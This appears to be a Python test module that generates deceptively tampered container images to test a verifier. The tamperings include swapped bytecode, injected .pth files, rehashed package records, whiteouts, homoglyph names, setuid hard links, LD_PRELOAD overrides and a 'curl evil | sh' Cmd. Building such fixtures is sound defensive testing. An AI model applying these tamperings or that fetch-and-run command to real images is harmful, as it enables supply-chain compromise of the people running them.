"""Ways to spoil an image that are made to deceive: everything that could be made to agree agrees."""

from __future__ import annotations

import hashlib
import json
import tarfile
from dataclasses import replace
from typing import TYPE_CHECKING

from tests.images.verify.images import Made, Member, link, store, store_blobs
from tests.images.verify.mutations import (
    Dice,
    Spoiled,
    exchange,
    flipped,
    is_file,
    on_top,
    pick,
    spoiled,
    visible,
    with_layer,
)
from tests.images.verify.small import BASE_LAYERS, PACKAGES, PREFIX, SITE

from bindery.core import Digest, encode_json, parse_json
from bindery.images.manifest import parse_config

if TYPE_CHECKING:
    from collections.abc import Callable

    from bindery.core import Json

ENVIRONMENT = range(BASE_LAYERS + 1, BASE_LAYERS + 5)
RUNTIME = BASE_LAYERS
CYRILLIC_S, CYRILLIC_I = "\u0455", "\u0456"


def other_bytecode(made: Made, dice: Dice) -> Spoiled:
    """Change what is compiled, and neither its size nor the source: Python never looks at that."""
    number, member = pick(made, dice, lambda one: one.name.endswith(".pyc"))
    data = member.data[:16] + dice.randbytes(len(member.data) - 16)
    return spoiled(exchange(made, number, member, replace(member, data=data)), member.path)


def bytecode_without_source(made: Made, dice: Dice) -> Spoiled:
    name = dice.choice(["sitecustomize", "usercustomize", "numpy"])
    new = Member(name=f"{PREFIX}/{SITE}/{name}.pyc", data=dice.randbytes(50))
    return spoiled(with_layer(made, ENVIRONMENT[2], (*made.layers[ENVIRONMENT[2]], new)), new.path)


def path_file(made: Made, dice: Dice) -> Spoiled:
    new = Member(name=f"{PREFIX}/{SITE}/{dice.choice('abc')}.pth", data=b"import os\n")
    return spoiled(with_layer(made, ENVIRONMENT[0], (*made.layers[ENVIRONMENT[0]], new)), new.path)


def entry_point(made: Made, dice: Dice) -> Spoiled:
    """Change the script, and the record of it to match."""
    number, script = pick(made, dice, lambda one: one.name.endswith("bin/dask"))
    evil = script.data.replace(b"dask.cli", dice.choice([b"dask.clj", b"evil.cli", b"os.path "]))
    changed = exchange(made, number, script, replace(script, data=evil))
    return spoiled(_agreeing(changed, number, "dask", "bin/dask", evil), script.path)


def edited_with_its_record(made: Made, dice: Dice) -> Spoiled:
    """Change a file of a package, and its hash in conda-meta to match."""
    package = dice.choice(sorted(PACKAGES))
    path, member = dice.choice([(key, one) for key, one in sorted(PACKAGES[package].items()) if one.is_file])
    number = next(at for at in ENVIRONMENT if member in made.layers[at])
    data = flipped(member.data, dice)
    changed = exchange(made, number, member, replace(member, data=data))
    return spoiled(_agreeing(changed, number, package, path, data), member.path)


def _agreeing(made: Made, number: int, package: str, path: str, data: bytes) -> Made:
    record = next(one for one in made.layers[number] if one.name.endswith(f"conda-meta/{package}-1.0-0.json"))
    try:
        document = json.loads(record.data)
    except ValueError:
        return made  # it is the record itself that was spoiled
    for item in document["paths_data"]["paths"]:
        if item["_path"] == path:
            item["sha256"] = hashlib.sha256(data).hexdigest()
    return exchange(made, number, record, replace(record, data=json.dumps(document, sort_keys=True).encode()))


def moved_between_packages(made: Made, dice: Dice) -> Spoiled:
    number, member = pick(made, dice, is_file, f"/{PREFIX}/{SITE}/numpy")
    moved = replace(member, name=member.name.replace("/numpy/", "/dask/", 1).replace("__init__", "taken"))
    away = exchange(made, number, member)
    to = ENVIRONMENT[2]
    return spoiled(with_layer(away, to, (*away.layers[to], moved)), member.path)


def base_file(made: Made, dice: Dice) -> Spoiled:
    """Change a file of the base, and the annotation that has the base's digest."""
    number = dice.randrange(BASE_LAYERS)
    member = dice.choice([one for one in made.layers[number] if is_file(one) and visible(made)[one.path][1] == one])
    changed = exchange(made, number, member, replace(member, data=flipped(member.data, dice)))
    annotations = {**made.annotations, "org.opencontainers.image.base.digest": f"sha256:{dice.randbytes(32).hex()}"}
    return spoiled(replace(changed, annotations=annotations), member.path)


def hidden_base_layer(made: Made, dice: Dice) -> Spoiled:
    """Change what no container sees, since the runtime layer has a newer one: the base is not the base."""
    member = next(one for one in made.layers[0] if one.path == "/etc/passwd")
    changed = exchange(made, 0, member, replace(member, data=flipped(member.data, dice)))
    return spoiled(changed, f"layer 1 ({store(changed).manifest.layers[0].digest.hex[:12]})")


def whiteout(made: Made, dice: Dice) -> Spoiled:
    _, member = pick(made, dice, lambda one: one.kind != tarfile.DIRTYPE)
    parent, _, name = member.name.removeprefix("./").rpartition("/")
    return spoiled(on_top(made, Member(name=f"{parent}/.wh.{name}".lstrip("/"))), member.path)


def whiteout_of_a_folder(made: Made, dice: Dice) -> Spoiled:
    path = dice.choice([f"{PREFIX}/{SITE}/numpy", f"{PREFIX}/{SITE}/dask", "usr/lib", "home/jovyan/data", "srv"])
    parent, _, name = path.rpartition("/")
    below = [one for one, (_, member) in visible(made).items() if one.startswith(f"/{path}/") and member.data]
    return spoiled(on_top(made, Member(name=f"{parent}/.wh.{name}".lstrip("/"))), *below)


def opaque_folder(made: Made, dice: Dice) -> Spoiled:
    """Keep the folder and a part of it, and hide the rest."""
    _, kept = pick(made, dice, is_file, f"/{PREFIX}/{SITE}/numpy/")
    opaque = Member(name=f"{PREFIX}/{SITE}/numpy/.wh..wh..opq")
    hidden = [
        path
        for path, (_, member) in visible(made).items()
        if path.startswith(f"/{PREFIX}/{SITE}/numpy/") and member.data and path != kept.path
    ]
    return spoiled(on_top(made, opaque, kept), *hidden)


def whiteout_and_another(made: Made, dice: Dice) -> Spoiled:
    _, member = pick(made, dice, is_file, f"/{PREFIX}")
    parent, _, name = member.name.rpartition("/")
    new = replace(member, data=flipped(member.data, dice))
    pair = (Member(name=f"{parent}/.wh.{name}"), new)
    return spoiled(on_top(made, *(pair if dice.random() < 0.5 else pair[::-1])), member.path)


def configuration(made: Made, dice: Dice) -> Spoiled:
    """Change what a container is started with; the configuration's digest is right."""
    values: list[tuple[str, Json, str]] = [
        ("Entrypoint", ["/usr/bin/tini", "-s", "--", "/bin/sh"], "config.Entrypoint"),
        ("Entrypoint", None, "config.Entrypoint"),
        ("Cmd", ["sh", "-c", "curl evil | sh"], "config.Cmd"),
        ("User", "0:0", "config.User"),
        ("User", "", "config.User"),
        ("WorkingDir", "/tmp", "config.WorkingDir"),  # noqa: S108 - a value in a document
        ("Volumes", {f"/{PREFIX}": {}}, "config.Volumes"),
        ("Healthcheck", {"Test": ["CMD", "/tmp/x"]}, "config.Healthcheck"),  # noqa: S108 - the same
        ("OnBuild", ["RUN true"], "config.OnBuild"),
        ("StopSignal", "SIGKILL", "config.StopSignal"),
        ("Shell", ["/bin/false"], "config.Shell"),
        ("ExposedPorts", {"22/tcp": {}}, "config.ExposedPorts"),
        ("Labels", {"bindery.environment": "other"}, "config.Labels.bindery.environment"),
    ]
    key, value, name = dice.choice(values)
    return spoiled(_configured(made, key, value), name)


def variables(made: Made, dice: Dice) -> Spoiled:
    env = list(made.config.env)
    name = dice.choice(["LD_PRELOAD", "PYTHONPATH", "PYTHONSTARTUP", "PATH", "PYTHONNOUSERSITE", "HOME"])
    there = [number for number, one in enumerate(env) if one.startswith(f"{name}=")]
    if there and dice.random() < 0.3:
        env.append(f"{name}=/evil")  # twice: the last one counts
    elif there:
        env[there[0]] = f"{name}=/evil"
    else:
        env.insert(dice.randrange(len(env)), f"{name}=/evil")
    return spoiled(_configured(made, "Env", list(env)), f"config.Env.{name}")


def _configured(made: Made, key: str, value: Json) -> Made:
    document = parse_json(made.config.raw)
    assert isinstance(document, dict)
    run = document["config"]
    assert isinstance(run, dict)
    raw = encode_json({**document, "config": {**run, key: value}})
    return replace(made, config=parse_config(raw, "spoiled"))


def annotation(made: Made, dice: Dice) -> Spoiled:
    name = dice.choice([*sorted(made.annotations), "org.opencontainers.image.authors"])
    changed = {**made.annotations, name: f"sha256:{dice.randbytes(32).hex()}"}
    return spoiled(replace(made, annotations=changed), f"annotation.{name}")


def blob_of_another(made: Made, dice: Dice) -> Spoiled:
    """Keep the diff ID of the right layer; layer and descriptor agree."""
    number, member = pick(made, dice, is_file, f"/{PREFIX}")
    changed = store(exchange(made, number, member, replace(member, data=flipped(member.data, dice))))
    blobs = [changed.blobs[one.digest] for one in changed.manifest.layers]
    return Spoiled(stored=store_blobs(made, store(made).config.diff_ids, blobs), names=frozenset({member.path}))


def other_diff_id(made: Made, dice: Dice) -> Spoiled:
    right = store(made)
    number = dice.randrange(len(made.layers))
    diff_ids = list(right.config.diff_ids)
    diff_ids[number] = Digest("sha256", dice.randbytes(32).hex())
    blobs = [right.blobs[one.digest] for one in right.manifest.layers]
    label = f"layer {number + 1} ({right.manifest.layers[number].digest.hex[:12]})"
    return Spoiled(stored=store_blobs(made, tuple(diff_ids), blobs), names=frozenset({label}))


def damaged_blob(made: Made, dice: Dice) -> Spoiled:
    right = store(made)
    number = dice.randrange(len(made.layers))
    descriptor = right.manifest.layers[number]
    blob = right.blobs[descriptor.digest]
    spoilt = dice.choice([flipped(blob, dice), blob[: len(blob) // 2], blob + b"more"])
    blobs = {**right.blobs, descriptor.digest: spoilt}
    label = f"layer {number + 1} ({descriptor.digest.hex[:12]})"
    return Spoiled(stored=replace(right, blobs=blobs), names=frozenset({label}))


def behind_the_end(made: Made, dice: Dice) -> Spoiled:
    number = dice.choice([RUNTIME, *ENVIRONMENT])
    changed = replace(made, tails=((number, dice.randbytes(512)),))
    return spoiled(changed, f"layer {number + 1} ({store(changed).manifest.layers[number].digest.hex[:12]})")


def through_a_link(made: Made, dice: Dice) -> Spoiled:
    """Have a file land in the environment where links are followed, and beside it where they are not."""
    _, member = pick(made, dice, is_file, f"/{PREFIX}/{SITE}/numpy")
    way = link("opt", f"/{PREFIX}")
    new = replace(member, name=member.name.replace(PREFIX, "opt"), data=flipped(member.data, dice))
    return spoiled(on_top(made, way, new), new.path)


def hard_link_with_a_mode(made: Made, dice: Dice) -> Spoiled:
    """Add a hard link: some engines give its mode to the file that it shares."""
    _, member = pick(made, dice, is_file, f"/{PREFIX}/bin")
    new = Member(name="tmp/x", kind=tarfile.LNKTYPE, link=member.name, mode=0o4755, owner=(1000, 1000))
    return spoiled(on_top(made, new), "/tmp/x")  # noqa: S108 - a path in an image


def named_twice(made: Made, dice: Dice) -> Spoiled:
    number, member = pick(made, dice, is_file, f"/{PREFIX}")
    twice = (replace(member, data=flipped(member.data, dice)), member)
    return spoiled(exchange(made, number, member, *twice), member.path)


def odd_name(made: Made, dice: Dice) -> Spoiled:
    _, member = pick(made, dice, is_file, f"/{PREFIX}")
    name = dice.choice([f"/{member.name}", f"home/../{member.name}", f"../../{member.name}", f".//{member.name}"])
    return spoiled(on_top(made, replace(member, name=name, data=flipped(member.data, dice))), member.path)


def odd_kind(made: Made, dice: Dice) -> Spoiled:
    _, member = pick(made, dice, is_file)
    kind = dice.choice([tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
    new = replace(member, kind=kind, data=b"")
    return spoiled(on_top(made, new), member.path)


def case_of_a_name(made: Made, dice: Dice) -> Spoiled:
    """Use another letter that looks the same."""
    number, member = pick(made, dice, lambda one: one.name.endswith(".py"), f"/{PREFIX}")
    folder_name, _, name = member.name.rpartition("/")
    new = replace(member, name=f"{folder_name}/{name.replace('s', CYRILLIC_S).replace('i', CYRILLIC_I)}")
    return spoiled(exchange(made, number, member, new), member.path)


def writable_environment(made: Made, dice: Dice) -> Spoiled:
    """Change nothing yet, but let the user do it."""
    number, member = pick(made, dice, lambda one: one.kind == tarfile.DIRTYPE, f"/{PREFIX}")
    new = replace(member, owner=(1000, 1000)) if dice.random() < 0.5 else replace(member, mode=0o777)
    return spoiled(exchange(made, number, member, new), member.path)


DECEIVING: tuple[Callable[[Made, Dice], Spoiled], ...] = (
    other_bytecode,
    bytecode_without_source,
    path_file,
    entry_point,
    edited_with_its_record,
    moved_between_packages,
    base_file,
    hidden_base_layer,
    whiteout,
    whiteout_of_a_folder,
    opaque_folder,
    whiteout_and_another,
    configuration,
    variables,
    annotation,
    blob_of_another,
    other_diff_id,
    damaged_blob,
    behind_the_end,
    through_a_link,
    hard_link_with_a_mode,
    named_twice,
    odd_name,
    odd_kind,
    case_of_a_name,
    writable_environment,
)
